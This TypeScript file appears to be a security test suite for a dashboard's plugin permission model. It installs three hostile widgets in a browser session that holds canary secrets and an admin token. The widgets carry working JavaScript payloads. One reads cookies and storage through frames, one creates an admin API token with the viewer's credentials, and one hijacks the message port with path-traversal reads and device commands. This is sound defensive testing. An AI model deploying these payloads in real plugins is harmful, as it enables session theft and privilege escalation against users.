import type { Page } from "playwright-core";
import { ask, makeLink } from "./api.ts";
import { openPage, withoutBrowser } from "./browser.ts";
import { ANY_OF, ATTACK_OVER } from "./hostile-plugin.ts";
import type { Proof, AttackResult } from "./proof.ts";
import { EVENT_TIMEOUT_MS, type Stage } from "./stage.ts";

/** A widget that attacks as soon as it is mounted. */
interface HostileWidget {
  readonly id: string;
  readonly name: string;
  /**
   * The body of an async function in the widget, with `ctx`, `own` (the address of the host) and `anyOf`. It
   * returns what it got.
   */
  readonly attack: string;
  /** Gives the harm that was done, or `undefined` when there is none. */
  readonly look: (stage: Stage, result: AttackResult) => Promise<string | undefined>;
}

/** Attacks on the viewer of a dashboard, by the widget of an installed plugin that declares no needs. */
export const WIDGETS: readonly Proof[] = [
  {
    id: "storage-thief",
    name: "read the dashboard's cookies and storage from a widget",
    attack: `
  const below = (use) => () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return use(frame.contentWindow);
  };
  const cookie = (window) => window.document.cookie || undefined;
  const stored = (window) => window.localStorage.getItem("canary") ?? undefined;
  const kept = (window) => window.sessionStorage.getItem("canary") ?? undefined;
  const reads = [cookie, stored, kept];
  return anyOf([
    ...[window, parent, top].flatMap((each) => reads.map((read) => () => read(each))),
    ...reads.map(below),
    ...reads.map((read) => () => read(window.open(own + "/icon.svg"))),
  ]);`,
    look: async ({ canary }: Stage, { got = "" }: AttackResult) =>
      got.includes(canary) ? `it has the viewer's storage: ${got.slice(0, 40)}` : undefined,
  },
  {
    id: "api-caller",
    name: "call the API with the viewer's credential from a widget",
    attack: `
  const tokens = own + "/api/v1/tokens";
  const body = JSON.stringify({ name: "stolen", scope: ["admin"] });
  const headers = { "content-type": "application/json" };
  const asked = (use, init) => async () => {
    const answer = await use().fetch(tokens, { credentials: "include", ...init });
    return answer.ok ? answer.text() : undefined;
  };
  const below = () => document.body.appendChild(document.createElement("iframe")).contentWindow;
  const windows = [() => window, () => parent, below];
  return anyOf([
    ...windows.map((use) => asked(use, { method: "POST", headers, body })),
    ...windows.map((use) => asked(use)),
    () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open("GET", tokens);
      request.withCredentials = true;
      request.onload = () => (request.status < 400 ? done(request.responseText) : fail(request.status));
      request.onerror = () => fail("XMLHttpRequest was refused");
      request.send();
    }),
    () => new Promise((done, fail) => {
      const events = new EventSource(own + "/api/v1/events", { withCredentials: true });
      events.onopen = () => done("events");
      events.onerror = () => fail("EventSource was refused");
    }),
    () => { navigator.sendBeacon(tokens, new Blob([body], { type: "application/json" })) },
  ]);`,
    look: async (stage: Stage, { got }: AttackResult) => {
      const list = await ask(stage.target, "GET", "/tokens");
      if (JSON.stringify(list).includes("stolen")) return "it made a token";
      return got === undefined ? undefined : `it was answered: ${got}`;
    },
  },
  {
    id: "port-caller",
    name: "have the dashboard read or command for a widget what it did not declare",
    attack: `
  const { postMessage } = MessagePort.prototype;
  const port = await new Promise((done) => {
    MessagePort.prototype.postMessage = function (...all) { done(this); return postMessage.apply(this, all); };
    ctx.read("/nothing").catch(() => {});
  });
  MessagePort.prototype.postMessage = postMessage;
  const asked = (message, call) => () => new Promise((done, fail) => {
    port.addEventListener("message", ({ data }) => {
      if (data.kind !== "answer" || data.call !== call) return;
      const { error, body, ok } = data.answer;
      const isTried = error?.code !== undefined && error.code !== "forbidden"; // by the host
      if (body || ok || isTried) done(message.kind + " " + (message.path ?? message.device));
      else fail(JSON.stringify(error));
    });
    postMessage.call(port, JSON.stringify({ ...message, call }));
  });
  const paths = ["/tokens", "/config", "/calendar/events/../../tokens", "/photos/..%2ftokens", "/photos", own + "/api/v1/tokens"];
  return anyOf([
    ...paths.map((path) => async () => (await ctx.read(path)).status),
    ...paths.map((path, at) => asked({ kind: "read", path }, 1_000 + at)),
    asked({ kind: "command", device: "demo:light:1", command: { on: true } }, 2_000),
    asked({ kind: "scene", scene: "demo:scene:1" }, 2_001),
  ]);`,
    look: async (_: Stage, { got }: AttackResult) =>
      got === undefined ? undefined : `it has ${got}`,
  },
].map(proofOf);

function proofOf(widget: HostileWidget): Proof {
  return {
    name: widget.name,
    heldFrom: "permission-model",
    missing: withoutBrowser,
    look: async (stage) => {
      const { page, close } = await openPage();
      try {
        const told = await show(stage, page, widget);
        return told ? await widget.look(stage, told) : "the widget never ran";
      } finally {
        await close();
        await stage.uninstall();
      }
    },
  };
}

/** Shows the widget to an admin, whose browser has secrets, and gives what the widget said. */
async function show(
  stage: Stage,
  page: Page,
  widget: HostileWidget,
): Promise<AttackResult | undefined> {
  const { target, canary } = stage;
  await stage.install(widget.id, filesOf(widget, target.url));
  await stage.waitUntil(
    async () => (await stage.hostileState())?.state === "active",
    EVENT_TIMEOUT_MS,
  );
  await ask(target, "PUT", "/layout", layoutWith(widget.id));

  let told: AttackResult | undefined;
  page.on("console", (message) => {
    const text = message.text();
    if (text.startsWith(ATTACK_OVER))
      told = JSON.parse(text.slice(ATTACK_OVER.length)) as AttackResult;
  });
  await page.goto(`${target.url}/icon.svg`);
  await page.context().addCookies([{ name: "canary", value: canary, url: target.url }]);
  await page.evaluate(
    `for (const each of [localStorage, sessionStorage]) each.canary = "${canary}"`,
  );
  await page.goto(`${target.url}/#token=${await makeLink(target, "viewer", "admin")}`);
  await stage.waitUntil(async () => told !== undefined, EVENT_TIMEOUT_MS);
  return told;
}

function filesOf({ id, attack }: HostileWidget, url: string): Record<string, string> {
  const mantel = { id, kinds: ["widget"], widget: "widget.ts" };
  const source = `// @ts-nocheck
import { defineWidget } from "@mantel/plugin-sdk/widget";
${ANY_OF}
const own = ${JSON.stringify(url)};
async function attack(ctx) {${attack}
}
export default defineWidget({
  name: "Hostile",
  size: { default: [4, 4] },
  mount(_root, ctx) {
    const tell = (key) => (what) =>
      console.log(${JSON.stringify(ATTACK_OVER)} + JSON.stringify({ [key]: String(what?.message ?? what) }));
    setTimeout(() => attack(ctx).then(tell("got"), tell("failed")));
  },
});
`;
  const manifest = { name: `@hostile/${id}`, version: "1.0.0", type: "module", mantel };
  return { "package.json": JSON.stringify(manifest), "widget.ts": source };
}

function layoutWith(module: string): object {
  const geometry = { lg: { x: 0, y: 0, w: 4, h: 4 } };
  const widgets = [{ id: "tile", module, config: {}, geometry }];
  return {
    version: 1,
    grid: { columns: 12, rowHeight: 56, gap: 12 },
    pages: [{ id: "home", title: "Home", widgets }],
    displays: [],
  };
}
